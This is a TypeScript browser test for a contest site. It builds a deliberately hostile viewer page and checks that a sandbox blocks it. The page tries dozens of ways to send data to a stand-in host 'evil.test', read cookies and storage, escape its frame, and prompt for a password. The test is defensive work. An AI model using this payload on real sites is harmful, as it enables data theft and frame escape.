import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { JudgedStep } from '../src/game/view/judged-frames.ts';
import type { Serving } from '../src/http/defaults.ts';
import { openDatabase, type Database } from '../src/store/database.ts';
import { finishMatch } from '../src/store/results.ts';
import { createContest, joinContest } from '../src/store/rounds.ts';
import { addJudgedGame, claim, newMatches } from '../test/site.ts';
import { serveTests } from '../test/serve.ts';
import { temporaryDatabase } from '../test/store.ts';
import { alive, chromiumPath, launchBrowser, openPage, picture, withoutChromium } from './browser.ts';

// The viewer of a judge's game is a stranger's page: it draws what it is handed, and can do nothing else.

const noughts = readFileSync(new URL('../examples/judges/noughts/viewer.html', import.meta.url), 'utf8');

/** Everything by which a page could send or load something, leave its frame or read another page. */
const hostile = (port: number, stun: number): string => `<!doctype html>
<meta charset="utf-8">
<link rel="dns-prefetch" href="//prefetched.evil.test">
<link rel="preconnect" href="http://evil.test:${port}/preconnect">
<link rel="stylesheet" href="http://evil.test:${port}/stylesheet">
<link rel="prefetch" href="http://evil.test:${port}/prefetch">
<link rel="modulepreload" href="http://evil.test:${port}/modulepreload">
<link rel="icon" href="http://evil.test:${port}/icon">
<link rel="manifest" href="http://evil.test:${port}/manifest">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://evil.test:${port}/speculated"]}]}</script>
<style>@import 'http://evil.test:${port}/import'; @font-face { font-family: f; src: url(http://evil.test:${port}/font) } body { font-family: f; background: url(http://evil.test:${port}/background) }</style>
<body>text
<script src="http://evil.test:${port}/script"></script>
<img src="http://evil.test:${port}/image"><object data="http://evil.test:${port}/object"></object><embed src="http://evil.test:${port}/embed">
<video src="http://evil.test:${port}/video"></video><iframe src="http://evil.test:${port}/frame"></iframe>
<iframe srcdoc="<script>fetch('http://evil.test:${port}/nested')</script>"></iframe>
<form id="form" action="http://evil.test:${port}/form"><input name="q"></form>
<a id="anchor" href="http://evil.test:${port}/anchor" ping="http://evil.test:${port}/ping" target="_blank" download>x</a>
<script>
  const evil = 'http://evil.test:${port}/';
  const done = {};
  const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error('nothing came of it')), 1000));
  const tries = {
    fetch: () => fetch(evil + 'fetch', { mode: 'no-cors' }),
    home: () => fetch('/api/v1/matches'),
    request: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', evil + 'request', false); xhr.send(); },
    socket: () => new Promise((_, reject) => (new WebSocket(evil.replace('http', 'ws') + 'socket').onerror = () => reject(new Error('closed')))),
    events: () => new Promise((_, reject) => (new EventSource(evil + 'events').onerror = () => reject(new Error('closed')))),
    beacon: () => navigator.sendBeacon(evil + 'beacon') || Promise.reject(new Error('no')),
    worker: () => new Promise((_, reject) => (new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + 'worker")']))).onerror = reject)),
    imported: () => import(evil + 'imported'),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 300));
    },
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open('x'),
    parent: () => parent.document.title,
    top: () => top.location.href,
    leave: () => (top.location = evil + 'top'),
    parentLeaves: () => (parent.location = evil + 'parent'),
    window: () => { if (open(evil + 'window') === null) throw new Error('no window'); },
    dialog: () => { if (prompt('password?') === null) throw new Error('no dialog'); },
  };
  document.getElementById('form').submit();
  document.getElementById('anchor').click();
  addEventListener('message', async ({ data }) => {
    if (data === 'go') return document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + evil + 'refresh?stolen">');
    if (window.isTold) return;
    window.isTold = true;
    for (const [name, attempt] of Object.entries(tries))
      try { await Promise.race([attempt(), late()]); done[name] = 'done'; } catch { done[name] = 'refused'; }
    document.title = JSON.stringify({ data, done });
  });
</script>`;

describe.skipIf(chromiumPath === undefined)(`the viewer of a judge's game${withoutChromium}`, () => {
  let server: Awaited<ReturnType<typeof temporaryDatabase>>;
  let db: Database;
  let site: Serving;
  let browser: Browser;
  let evil: Server;
  const reached: string[] = [];
  const udp = createSocket('udp4', (packet) => reached.push(`udp ${packet.length}`));

  beforeAll(async () => {
    server = await temporaryDatabase();
    db = openDatabase(server.url);
    site = await serveTests(server.url);
    evil = createServer((socket) => {
      reached.push('connected');
      socket.on('error', () => undefined);
      socket.on('data', (bytes) => reached.push(bytes.toString('latin1').split('\r\n')[0]!));
    }).listen(0, '127.0.0.1');
    udp.bind(0, '127.0.0.1');
    await Promise.all([evil, udp].map((each) => new Promise<void>((resolve) => each.once('listening', resolve))));
    browser = await launchBrowser('--host-resolver-rules=MAP *.test 127.0.0.1');
  });
  afterAll(async () => {
    await browser.close();
    evil.close();
    udp.close();
    await site.close();
    await db.destroy();
    await server.close();
  });

  /** A finished match of two turns, of a game with this viewer. */
  async function judged(game: string, viewer: string): Promise<number> {
    await addJudgedGame(db, game, '', { 'viewer.html': viewer });
    const cup = { game, kind: 'series', options: {}, moveTime: 1000, duplicate: false } as const;
    const contest = await createContest(db, { name: game, ...cup });
    const bots: number[] = [];
    for (const name of ['low', 'high']) bots.push(await joinContest(db, contest, { game, name, program: name }));
    const [id] = await newMatches(db, contest, bots, 1);
    const steps: JudgedStep[] = [
      { event: 'start', players: ['low', 'high'], seed: 'x' },
      { event: 'told', turn: 1, to: [0], text: 'x\n...\n...\n...' },
      { event: 'answer', turn: 1, seat: 0, text: '5' },
      { event: 'told', turn: 2, to: [1], text: 'o\n...\n.x.\n...' },
      { event: 'answer', turn: 2, seat: 1, text: '1' },
      { event: 'end', scores: [0, 1] },
    ];
    const boards = ['...\n...\n...', '...\n.x.\n...', 'o..\n.x.\n...'].map((board) => `BOARD\n${board}\n\n`);
    const log = steps.map((line) => `${JSON.stringify(line)}\n`).join('');
    const times = [
      { event: 1, at: 0, stderr: boards[0]!.length },
      { event: 3, at: 0, stderr: boards[1]!.length },
      { judge: { stderr: boards.join('') } },
    ];
    const attempt = await claim(db, id!);
    const result = { log, turns: 2, outcome: { scores: [0, 1], cause: 'rules' } } as const;
    await db.transaction().execute(async (trx) => {
      await finishMatch(trx, attempt, { ...result, times: times.map((row) => `${JSON.stringify(row)}\n`).join('') });
    });
    return id!;
  }

  const open = async (match: number): Promise<{ page: Page; frame: Frame }> => {
    const { page } = await openPage(browser, { storageState: { cookies: [], origins: [] } });
    await page.goto(`${site.url}/matches/${match}`);
    await alive(page);
    await expect.poll(() => page.frames().length).toBeGreaterThan(1);
    return { page, frame: page.frames()[1]! };
  };

  test('the one of noughts draws the turn that is looked at', async () => {
    const match = await judged('noughts', noughts);
    const { headers } = await fetch(`${site.url}/matches/${match}/viewer.html`);
    expect(headers.get('content-security-policy')).toMatch(/^sandbox allow-scripts; default-src 'none'/);
    expect([headers.get('x-content-type-options'), headers.get('set-cookie')]).toEqual(['nosniff', null]);
    const { page, frame } = await open(match);
    const drawn = async (): Promise<number[]> => [await frame.locator('.x').count(), await frame.locator('.o').count()];
    await expect.poll(drawn).toEqual([1, 1]);
    await expect.poll(() => frame.locator('#words').textContent()).toBe('0 – 1');
    await picture(page, 'viewer');
    await page.keyboard.press('ArrowLeft');
    await expect.poll(drawn).toEqual([1, 0]);
    await expect.poll(() => frame.locator('#words').textContent()).toBe('1. bot 1: 5');
    await page.keyboard.press('Home');
    await expect.poll(drawn).toEqual([0, 0]);
    await page.close();
  });

  test('one of more than 1 MiB is not served', async () => {
    const match = await judged('large', ' '.repeat(2 ** 20 + 1));
    expect((await fetch(`${site.url}/matches/${match}/viewer.html`)).status).toBe(404);
  });

  test('a hostile one gets its turn, and reaches nothing', async () => {
    const match = await judged('hostile', hostile((evil.address() as AddressInfo).port, udp.address().port));
    const { page, frame } = await open(match);
    await expect.poll(() => frame.title()).toContain('data');
    const { data, done } = JSON.parse(await frame.title()) as { data: unknown; done: Record<string, string> };
    expect(data).toEqual({
      turn: 2,
      told: { to: [2], text: 'o\n...\n.x.\n...' },
      answered: [{ bot: 2, text: '1' }],
      board: 'o..\n.x.\n...',
      scores: [0, 1],
    });
    const { beacon: _beacon, webrtc: _webrtc, ...others } = done; // these do not tell that nothing was sent
    expect(new Set(Object.values(others))).toEqual(new Set(['refused']));
    // a page that sends itself elsewhere is lost, and goes nowhere
    await page.evaluate(() => document.querySelector('iframe')!.contentWindow!.postMessage('go', '*'));
    await expect.poll(() => page.frames()[1]!.url()).toContain('chrome-error');
    expect(page.url()).toBe(`${site.url}/matches/${match}`);
    expect(reached).toEqual([]);
    await page.close();
  });
});
